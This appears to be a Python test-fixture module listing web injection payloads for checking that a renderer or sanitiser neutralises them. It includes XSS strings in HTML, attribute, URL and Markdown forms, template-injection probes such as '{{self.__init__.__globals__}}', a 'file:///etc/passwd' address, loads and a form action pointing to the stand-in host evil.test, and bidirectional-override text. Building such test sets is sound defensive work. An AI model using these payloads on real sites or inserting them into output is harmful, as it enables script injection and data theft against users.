"""Words that try to become something else on a page: markup, scripts, links that run, templates, signs that turn text
around. Each would set `ran` in the page, load something from `EVIL`, or turn `q{{7*7}}q` into `q49q`."""

from __future__ import annotations

EVIL = "evil.test"  # a name that nobody has (RFC 6761)
RUN = "top.ran=1,alert(1)"
COMPUTED = ("q49q", "qababq")
RIGHT_TO_LEFT = "\u202e\u2067\u2066"  # an override and two isolates that nobody ends

MARKUP = (
    f"<script>{RUN}</script>",
    f"\"'><img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script><a xlink:href='javascript:{RUN}'>x</a></svg>",
    f"</script><script>{RUN}</script>",
    f"</title></textarea></style></option></select></noscript></svg><script>{RUN}</script>",
    f"<a href=\"javascript:{RUN}\">x</a><a href='java&#10;script:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe><object data='javascript:{RUN}'></object>",
    f"<style>@import '//{EVIL}/a.css';*{{background:url(//{EVIL}/b)}}</style>",
    f"<link rel=stylesheet href=//{EVIL}/c.css><base href=//{EVIL}/><img src=//{EVIL}/d.png>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}/e'>",
    f"<form action=//{EVIL}/><input autofocus onfocus={RUN}></form><details open ontoggle={RUN}>",
    f"<!--><img src=x onerror={RUN}>--><![CDATA[>]]>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&amp;lt;img src=x onerror={RUN}&amp;gt;&#60;svg/onload={RUN}&#62;",
    f"\\u003cscript\\u003e{RUN}\\x3c/script\\x3e%3Cscript%3E{RUN}%3C/script%3E",
)
QUOTES = (
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"` onload={RUN} x=`",
    f'";{RUN};//',
    f"';{RUN};//\\';{RUN};//",
    f"*/{RUN};/*",
    f"}};{RUN};{{",
)
TEMPLATES = (
    "q{{7*7}}q",
    "q{{'ab'*2}}q",
    "q${7*7}q",
    "q#{7*7}q",
    "q<%=7*7%>q",
    "q{%print(7*7)%}q",
    "{{config}}{{self.__init__.__globals__}}{0.__class__}%(x)s%s%n",
)
STYLES = (f"color:red;background:url(//{EVIL}/f);x:expression({RUN})", f"}}*{{background:url(//{EVIL}/g)}}")
ADDRESSES = (
    f"javascript:{RUN}",
    f" JaVa\tScRiPt:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"//{EVIL}/h",
    f'https://{EVIL}/"onmouseover="{RUN}',
    f"https://{EVIL}/'><script>{RUN}</script>",
    f"http:javascript:{RUN}",
    "file:///etc/passwd",
)
MARKDOWN = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt&colon;{RUN})",
    f"[x](&#106;avascript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=)",
    f"[x](vbscript:{RUN})",
    f'[x](https://{EVIL}/ "\\" onmouseover=\\"{RUN}")',
    f'[x](<https://{EVIL}/" onmouseover="{RUN}>)',
    f"![x](//{EVIL}/i.png)",
    f'![x](x "\\" onerror=\\"{RUN}")',
    f"![x](https://{EVIL}/j.png)",
    f"[y]: javascript:{RUN}",
    "[y] [y][y]",
    f"<javascript:{RUN}>",
    f'<https://{EVIL}/"onmouseover="{RUN}>',
    f"```html\n<script>{RUN}</script>\n```",
    f"    <script>{RUN}</script>",
    f"<div onclick={RUN}>\n\n*a*</div>",
    f'<a href="javascript:{RUN}">b</a>',
    f"# <script>{RUN}</script>",
    f"`</code><script>{RUN}</script>`",
)
ONE_LINE = "".join((*MARKUP, *QUOTES, *TEMPLATES, *STYLES, *ADDRESSES))
NOTES = "\n\n".join((*MARKDOWN, *MARKUP, *QUOTES, *TEMPLATES, *ADDRESSES))
BARE = f"<img src=x onerror={RUN}>"
SHORT = f"<img src=x onerror={RUN}>q{{{{7*7}}}}q\"'"  # where a hundred characters are the most


def turned(words: str) -> str:
    """Words that also try to turn around what stands after them."""
    return words + RIGHT_TO_LEFT
